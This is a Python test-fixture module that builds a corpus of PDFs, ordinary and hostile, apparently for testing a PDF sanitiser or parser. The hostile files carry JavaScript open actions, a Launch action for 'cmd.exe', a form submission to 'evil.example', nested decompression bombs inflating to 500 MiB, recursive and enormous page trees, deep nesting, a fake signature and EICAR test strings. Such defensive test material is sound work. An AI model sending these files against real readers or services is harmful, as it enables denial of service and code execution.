"""PDF files of the corpus, honest and hostile, made when asked for: nothing binary is committed."""

from __future__ import annotations

import io
import zlib
from datetime import UTC, datetime, timedelta

import pikepdf
from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.serialization import Encoding, pkcs7
from cryptography.x509.oid import NameOID
from pikepdf import Array, Dictionary, Name, Pdf, String

from tests.corpus import images

# Written apart so that this very file is no alarm for an antivirus.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


_ONE_PAGE = (
    b"<</Type/Catalog/Pages 2 0 R>>",
    b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
    b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>",
)


def new(pages: int = 1) -> Pdf:
    pdf = Pdf.new()
    for number in range(pages):
        page = pdf.add_blank_page(page_size=(595, 842))
        page.Contents = pdf.make_stream(b"BT /F1 24 Tf 72 700 Td (Page %d) Tj ET" % (number + 1))
        font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
        page.Resources = Dictionary(Font=Dictionary(F1=font))
    return pdf


def saved(pdf: Pdf, **options: object) -> bytes:
    buffer = io.BytesIO()
    pdf.save(buffer, deterministic_id=not options, **options)
    return buffer.getvalue()


def inflated(raw: bytes) -> bytes:
    """The streams of a file, decompressed, one after the other."""
    with pikepdf.open(io.BytesIO(raw)) as pdf:
        return b"".join(item.read_bytes() for item in pdf.objects if isinstance(item, pikepdf.Stream))


def plain(pages: int = 1) -> bytes:
    return saved(new(pages))


def photographed(pages: int = 10, size: int = 2_000_000) -> bytes:
    """A scanned statement of about `size` bytes: one photograph a page."""
    pdf = new(pages)
    photograph = images.jpeg(1240, 1754)
    body = photograph[:-2] + b"\xff\xfe\xff\xfd" + b"x" * 65531 + b"\xff\xd9"
    for page in pdf.pages:
        filling = max(0, size // pages - len(photograph))
        image = pdf.make_stream((photograph + bytes(filling)) if filling else body)
        image.update({"/Type": Name.XObject, "/Subtype": Name.Image, "/Width": 1240, "/Height": 1754})
        image.update({"/ColorSpace": Name.DeviceRGB, "/BitsPerComponent": 8, "/Filter": Name.DCTDecode})
        page.Resources.XObject = Dictionary(Im0=image)
        page.Contents = pdf.make_stream(b"q 595 0 0 842 0 0 cm /Im0 Do Q")
    return saved(pdf)


def tax_notice() -> bytes:
    return saved(new(4), object_stream_mode=pikepdf.ObjectStreamMode.generate)


def invoice_with_data() -> bytes:
    """A Factur-X invoice: the same figures as XML, embedded."""
    pdf = new()
    spec = pikepdf.AttachedFileSpec(
        pdf, b"<?xml version='1.0'?><Invoice/>", mime_type="text/xml", filename="factur-x.xml"
    )
    pdf.attachments["factur-x.xml"] = spec
    pdf.Root.AF = Array([spec.obj])
    return saved(pdf)


def form_with_scripts() -> bytes:
    """Scripts at opening, on a page, behind a field, in the name tree; a launcher, a submission, an ordinary link."""
    pdf = new()
    script = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert('hello')")))
    names = Array([String("start"), script])
    pdf.Root.OpenAction = script
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=names))
    page = pdf.pages[0].obj
    page.AA = Dictionary(O=script)
    actions = (
        Dictionary(S=Name.Launch, F=String("cmd.exe")),
        Dictionary(S=Name.SubmitForm, F=String("https://evil.example/")),
        Dictionary(S=Name.URI, URI=String("https://invoice.example/")),
    )
    page.Annots = Array([pdf.make_indirect(_widget(index, action)) for index, action in enumerate(actions)])
    pdf.Root.AcroForm = Dictionary(Fields=page.Annots, XFA=String("<xdp/>"))
    return saved(pdf)


def _widget(index: int, action: Dictionary) -> Dictionary:
    field = Dictionary(FT=Name.Tx, T=String(f"f{index}"), V=String("kept"))
    annotation = {"/Type": Name.Annot, "/Subtype": Name.Widget, "/Rect": Array([0, 0, 9, 9]), "/A": action}
    return Dictionary({**dict(field.items()), **annotation})


def with_internal_link() -> bytes:
    pdf = new(2)
    action = Dictionary(S=Name.GoTo, D=Array([pdf.pages[1].obj, Name.Fit]))
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action)
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(link)])
    return saved(pdf)


def restricted() -> bytes:
    """A bank statement that opens without password and forbids printing."""
    return saved(new(), encryption=pikepdf.Encryption(owner="bank", user="", allow=pikepdf.Permissions(extract=False)))


def locked() -> bytes:
    return saved(new(), encryption=pikepdf.Encryption(owner="a", user="secret"))


def signed(*, is_active: bool = False) -> bytes:
    """A PDF with a real detached signature over its bytes (self-signed certificate)."""
    pdf = new()
    room = 8192
    field = Dictionary(
        Type=Name.Sig,
        Filter=Name("/Adobe.PPKLite"),
        SubFilter=Name("/adbe.pkcs7.detached"),
        ByteRange=Array([0, 1111111111, 2222222222, 3333333333]),
        Contents=String(b"\xfe" * (room // 2)),
    )
    widget = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Widget,
        FT=Name.Sig,
        T=String("Signature1"),
        V=pdf.make_indirect(field),
        Rect=Array([0, 0, 0, 0]),
        P=pdf.pages[0].obj,
    )
    annotation = pdf.make_indirect(widget)
    pdf.pages[0].obj.Annots = Array([annotation])
    pdf.Root.AcroForm = Dictionary(SigFlags=3, Fields=Array([annotation]))
    if is_active:
        pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    raw = saved(pdf, object_stream_mode=pikepdf.ObjectStreamMode.disable, compress_streams=False)
    return _filled(raw, room)


def _filled(raw: bytes, room: int) -> bytes:
    hexadecimal = b"<" + b"fe" * (room // 2) + b">"
    start = raw.index(hexadecimal)
    end = start + len(hexadecimal)
    old = b"0 1111111111 2222222222 3333333333"
    span = b"0 %d %d %d" % (start, end, len(raw) - end)
    raw = raw.replace(old, span.ljust(len(old)))
    signature = _signature(raw[:start] + raw[end:]).hex().encode()
    return raw[:start] + b"<" + signature.ljust(room, b"0") + b">" + raw[end:]


def _signature(data: bytes) -> bytes:
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "Corpus")])
    day = datetime(2026, 1, 1, tzinfo=UTC)
    builder = x509.CertificateBuilder(
        name, name, key.public_key(), x509.random_serial_number(), day, day + timedelta(9)
    )
    certificate = builder.sign(key, hashes.SHA256())
    pieces = pkcs7.PKCS7SignatureBuilder().set_data(data).add_signer(certificate, key, hashes.SHA256())
    return pieces.sign(Encoding.DER, [pkcs7.PKCS7Options.DetachedSignature])


def falsely_signed() -> bytes:
    """A signature in name only, there to keep a script."""
    pdf = new()
    pdf.Root.Fake = Dictionary(Type=Name.Sig, ByteRange=Array([0, 10, 20, 30]), Contents=String(b"0" * 200))
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    return saved(pdf)


def truncated() -> bytes:
    whole = photographed(2, 200_000)
    return whole[: len(whole) // 2]


def with_eicar_in_stream() -> bytes:
    pdf = new()
    pdf.Root.Extra = pdf.make_stream(EICAR)
    return saved(pdf)


def with_eicar_embedded() -> bytes:
    pdf = new()
    pdf.attachments["a.com"] = pikepdf.AttachedFileSpec(pdf, EICAR, filename="a.com")
    return saved(pdf)


def bomb(layers: int = 2, size: int = 500 << 20) -> bytes:
    """A page whose content inflates to 500 MiB: 1.3 kB once it is compressed twice."""
    data = deflated_zeros(size >> 20)
    for _ in range(layers - 1):
        data = zlib.compress(data, 9)
    head = b"<</Filter[%s]/Length %d>>\nstream\n" % (b"/FlateDecode" * layers, len(data))
    return _assembled(*_ONE_PAGE, head + data + b"\nendstream")


def bomb_in_structure() -> bytes:
    """An object stream that inflates to 500 MiB as soon as the file is opened."""
    data = zlib.compress(deflated_zeros(500), 9)
    stream = b"5 0 obj\n<</Type/ObjStm/N 1/First 4/Filter[/FlateDecode/FlateDecode]/Length %d>>\nstream\n" % len(data)
    body = b"%PDF-1.5\n" + stream + data + b"\nendstream\nendobj\n"
    at = len(body)
    rows = ((0, 0, 65535), (2, 5, 0), (0, 0, 0), (0, 0, 0), (1, at, 0), (1, 9, 0))
    table = b"".join(k.to_bytes(1, "big") + where.to_bytes(4, "big") + n.to_bytes(2, "big") for k, where, n in rows)
    xref = b"4 0 obj\n<</Type/XRef/W[1 4 2]/Size 6/Root 1 0 R/Length %d>>\nstream\n" % len(table)
    return body + xref + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % at


def deflated_zeros(mebibytes: int) -> bytes:
    """A zlib stream of that many MiB of zeros: one block, repeated, so that it is made at once."""
    machine = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = machine.compress(bytes(1 << 20)) + machine.flush(zlib.Z_FULL_FLUSH)
    checksum = ((mebibytes << 20) % 65521 << 16) | 1
    return b"\x78\xda" + block * mebibytes + b"\x03\x00" + checksum.to_bytes(4, "big")


def many_pages(count: int = 100_000) -> bytes:
    """One page referred to a hundred thousand times."""
    kids = b" ".join([b"3 0 R"] * count)
    return _assembled(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Count %d/Kids[%s]>>" % (count, kids),
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
    )


def many_distinct_pages(count: int = 90_000) -> bytes:
    kids = b" ".join(b"%d 0 R" % number for number in range(3, count + 3))
    page = b"<</Type/Page/Parent 2 0 R/Resources<<>>/MediaBox[0 0 9 9]>>"
    return _assembled(_ONE_PAGE[0], b"<</Type/Pages/Count %d/Kids[%s]>>" % (count, kids), *[page] * count)


def many_objects(count: int = 150_000) -> bytes:
    return _assembled(*_ONE_PAGE, *[b"null"] * count)


def recursive_pages() -> bytes:
    return _assembled(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 1/Kids[2 0 R]/Parent 2 0 R>>")


def deep_objects(depth: int = 50_000) -> bytes:
    deep = b"[" * depth + b"]" * depth
    return _assembled(*_ONE_PAGE, deep)


def huge_image() -> bytes:
    pdf = new()
    image = pdf.make_stream(b"\x00")
    image.update({"/Type": Name.XObject, "/Subtype": Name.Image, "/Width": 65000, "/Height": 65000})
    image.update({"/ColorSpace": Name.DeviceGray, "/BitsPerComponent": 1, "/Filter": Name.CCITTFaxDecode})
    pdf.pages[0].Resources.XObject = Dictionary(Im0=image)
    return saved(pdf)


def of_size(size: int) -> bytes:
    """A valid PDF of exactly that many bytes."""
    base = plain()
    start = base.rindex(b"startxref")
    filling = size - len(base)
    return base[:start] + b"%" + b"x" * (filling - 2) + b"\n" + base[start:]


def _assembled(*bodies: bytes) -> bytes:
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    places = []
    for number, body in enumerate(bodies, 1):
        places.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    at = out.tell()
    rows = b"".join(b"%010d 00000 n \n" % place for place in places)
    out.write(b"xref\n0 %d\n0000000000 65535 f \n%s" % (len(places) + 1, rows))
    out.write(b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(places) + 1, at))
    return out.getvalue()
